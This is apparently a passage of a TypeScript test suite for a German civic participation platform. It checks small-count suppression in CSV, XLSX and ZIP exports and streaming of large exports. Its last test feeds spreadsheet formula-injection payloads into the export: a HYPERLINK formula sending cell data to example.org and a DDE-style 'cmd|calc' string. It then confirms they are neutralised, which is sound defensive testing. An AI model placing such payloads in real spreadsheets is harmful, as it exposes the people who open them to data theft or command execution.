    // „< 5“ is under the threshold, „verdeckt“ at least 5: the note says so, as the charts' legends do, not that „< 5“ may be either.
    expect(pdf).toContain('„< 5“ heißt: weniger als 5 Stimmen, auch keine; „verdeckt“ heißt: mindestens 5, aber nicht genannt');
    expect(pdf).toContain('steht dafür „< 5“ (unter der Schwelle) oder „verdeckt“ (aus Summen errechenbar)');
    // The CSV holds the contributions only: one table, nothing after it.
    expect(lines.filter((line) => line !== '')).toHaveLength(17);
    // The count tables come as their own files in the ZIP, suppressed the same way as the aggregates: a withheld count is empty, its reason beside it.
    const files = unzipSync(new Uint8Array((await download(group, 'zip')).rawPayload));
    const districts = Buffer.from(files['anzahlen-stadtbezirk.csv']!).toString('utf8').slice(1).split('\r\n');
    expect(districts[0]).toBe('Stadtbezirk;Beiträge;Beiträge – nicht genannt, weil;Fragebögen;Fragebögen – nicht genannt, weil');
    // 16 contributions in all minus the 10 of Bezirk 5 would leave the one from Schildgen: the 5 without a place are withheld too.
    expect(districts).toContain('Bezirk 5;10;;;weniger als die Schwelle');
    expect(districts).toContain('ohne Angabe;;aus Summen errechenbar;;weniger als die Schwelle');
    expect(districts).toContain('Bezirk 1;;weniger als die Schwelle;;weniger als die Schwelle');
    const readme = Buffer.from(files['README.txt']!).toString('utf8');
    expect(readme).toContain('Jede Zahl unter 5 (auch 0) wird nicht genannt');
    const workbook = await readWorkbook((await download(group, 'xlsx')).rawPayload);
    expect(Object.keys(workbook.sheets)).toEqual(['Beiträge', 'Anzahlen nach Stadtbezirk', 'Anzahlen nach Kanal', 'Handlungsfeld × Stadtbezirk', 'Fragen', 'Fragen nach Stadtbezirk', 'Klebepunkte', 'Hinweise']);
    expect(workbook.sheets['Beiträge']!.find((row) => row[6] === 'Moitzfeld allein')![5]).toBe('Bezirk 5');
    expect(workbook.sheets['Anzahlen nach Stadtbezirk']).toContainEqual(['ohne Angabe', '', 'aus Summen errechenbar', '', 'weniger als die Schwelle']);
  });

  it('names no place in the list more precisely than the table by Stadtbezirk beside it, so counting the rows gives no withheld count away', async () => {
    const voices = (stadtteil: string | null, n: number, field = 'arbeit') => {
      for (let i = 0; i < n; i += 1) buildContribution(t.db, { text: `Stimme ${i} aus ${stadtteil ?? 'nirgendwo'} zu ${field}`, fieldsOfAction: [field], stadtteil });
    };
    voices('schildgen', 9); // Bezirk 1
    voices('gronau', 6); // Bezirk 2, with Hebborn's one
    voices('hebborn', 1);
    voices('sand', 5); // Bezirk 3: withheld as „verdeckt“ beside the two from outside the city
    voices('bensberg', 8); // Bezirk 5
    voices('outside', 2);
    voices(null, 10);
    const table = (await aggregates(group, 'by=district')).contributions as AggregateTable;
    const district = (key: string) => table.cells.find((cell) => cell.keys[0] === key)!;
    expect(district('bezirk-3')).toMatchObject({ suppressed: true, reason: 'secondary' });
    expect(district('outside')).toMatchObject({ suppressed: true, reason: 'below_threshold' });
    expect(district('bezirk-2')).toMatchObject({ count: 7, suppressed: false });

    const csv = (await download(group, 'csv')).body.slice(1).split('\r\n').slice(1).filter(Boolean).map((line) => line.split(';'));
    const quotes = (await group.inject({ method: 'GET', url: url('quotes?limit=100') })).json().quotes as Array<{ text: string; area: string | null }>;
    const listed = (await group.inject({ method: 'GET', url: url('contributions') })).json() as Array<{ text: string; area: string | null }>;
    const lists = { csv: csv.map((cells) => ({ text: cells[6]!, area: cells[5]! || null })), quotes, listed };
    for (const [name, list] of Object.entries(lists)) {
      expect(list, name).toHaveLength(41);
      const areaOf = (from: string) => [...new Set(list.filter((row) => row.text.includes(`aus ${from} `)).map((row) => row.area))];
      expect(areaOf('schildgen'), name).toEqual(['Schildgen']);
      expect(areaOf('bensberg'), name).toEqual(['Bensberg']);
      // Bezirk 2 with Gronau named would leave one voice as „Bezirk 2“: Hebborn's, the one Stadtteil of Bezirk 2 not named.
      expect(areaOf('gronau'), name).toEqual(['Bezirk 2']);
      expect(areaOf('hebborn'), name).toEqual(['Bezirk 2']);
      // Sand's five would count Bezirk 3, and the total then the two from outside the city.
      expect(areaOf('sand'), name).toEqual([null]);
      expect(areaOf('outside'), name).toEqual([null]);
      // Counted by place, the list gives the table's numbers where it shows one, and nothing else.
      for (const cell of table.cells) {
        const names = cell.keys[0] === 'bezirk-1' ? ['Schildgen', 'Bezirk 1'] : cell.keys[0] === 'bezirk-2' ? ['Bezirk 2'] : cell.keys[0] === 'bezirk-5' ? ['Bensberg', 'Bezirk 5'] : [];
        const counted = list.filter((row) => row.area !== null && (names.includes(row.area) || row.area === cell.keys[0])).length;
        expect(counted, `${name} ${cell.keys[0]}`).toBe(cell.suppressed ? 0 : names.length > 0 ? cell.count : 0);
      }
    }
  });

  it('names a district for a voice only where the table by Stadtbezirk and Handlungsfeld shows its field there', async () => {
    const voices = (stadtteil: string, n: number, field: string) => {
      for (let i = 0; i < n; i += 1) buildContribution(t.db, { text: `Stimme ${i} aus ${stadtteil} zu ${field}`, fieldsOfAction: [field], stadtteil });
    };
    const bildung = await signIn(t.app, (await buildUser(t.db, { role: 'working_group', fieldsOfAction: ['bildung'] })).username, TEST_PASSWORD);
    voices('bensberg', 12, 'bildung');
    voices('bensberg', 3, 'bildung-schulisch'); // under the threshold in Bezirk 5
    voices('bensberg', 7, 'bildung-ausserschulisch'); // withheld beside it, „verdeckt“
    voices('gronau', 9, 'bildung-schulisch');
    voices('gronau', 8, 'bildung-ausserschulisch');
    voices('gronau', 6, 'bildung');
    voices('schildgen', 6, 'bildung-schulisch'); // withheld in its column beside Bensberg's three
    const table = (await bildung.inject({ method: 'GET', url: url('aggregates?by=district,field') })).json() as AggregateResult;
    const cell = (district: string, field: string) => table.contributions.cells.find((c) => c.keys[0] === district && c.keys[1] === field)!;
    expect(cell('bezirk-5', 'bildung-schulisch')).toMatchObject({ suppressed: true, reason: 'below_threshold' });
    expect(cell('bezirk-5', 'bildung-ausserschulisch')).toMatchObject({ suppressed: true, reason: 'secondary' });
    const rows = (await download(bildung, 'csv')).body.slice(1).split('\r\n').slice(1).filter(Boolean).map((line) => line.split(';'));
    const areas = (field: string, from: string) => [...new Set(rows.filter((cells) => cells[6]!.includes(`aus ${from} zu ${field}`)).map((cells) => cells[5]))];
    expect(areas('bildung-schulisch', 'bensberg')).toEqual(['']);
    expect(areas('bildung-ausserschulisch', 'bensberg')).toEqual(['']);
    expect(areas('bildung', 'bensberg')).not.toEqual(['']);
    expect(areas('bildung-schulisch', 'gronau')).not.toEqual(['']);
  });

  it('streams more contributions than one page holds, each once, while the database stays usable', async () => {
    const insert = t.db.$client.transaction(() => {
      for (let i = 0; i < 1234; i += 1) buildContribution(t.db, { text: `Beitrag Nummer ${i}`, fieldsOfAction: ['arbeit'], capturedOn: `2026-${String(1 + (i % 12)).padStart(2, '0')}-10` });
    });
    insert();
    const [csv, health] = await Promise.all([download(group, 'csv'), t.app.inject({ method: 'GET', url: '/api/health' })]);
    expect(health.statusCode).toBe(200);
    const numbers = csv.body.split('\r\n').flatMap((line) => /;Beitrag Nummer (\d+);;B-\d+$/.exec(line)?.[1] ?? []);
    expect(numbers).toHaveLength(1234);
    expect(new Set(numbers).size).toBe(1234);
    const months = csv.body.split('\r\n').slice(1, 1235).map((line) => line.slice(0, 7));
    expect(months).toEqual([...months].sort());
  });

  it('neutralises cells that a spreadsheet would run as a formula, in CSV and XLSX', async () => {
    const attacks = ['=HYPERLINK("http://example.org/?x="&A1;"Klick")', '+1+cmd|calc', '-2+3', '@SUM(1;2)'];
    for (const text of attacks) buildContribution(t.db, { text, fieldsOfAction: ['arbeit'] });
    const csv = (await download(group, 'csv')).body;
    const lines = csv.split('\r\n');
    for (const text of attacks) {
      const line = lines.find((candidate) => candidate.includes(text.slice(1, 8)))!;
      const cell = line.slice(line.lastIndexOf(';', line.indexOf(text.slice(1, 8))) + 1);
      expect(cell.replace(/^"/, '').startsWith(`'${text[0]}`), line).toBe(true);
    }
    const workbook = await readWorkbook((await download(group, 'xlsx')).rawPayload);
    expect(workbook.formulas).toBe(0);
    const texts = workbook.sheets['Beiträge']!.map((row) => row[6]);
    for (const text of attacks) expect(texts).toContain(`'${text}`);
  });
});
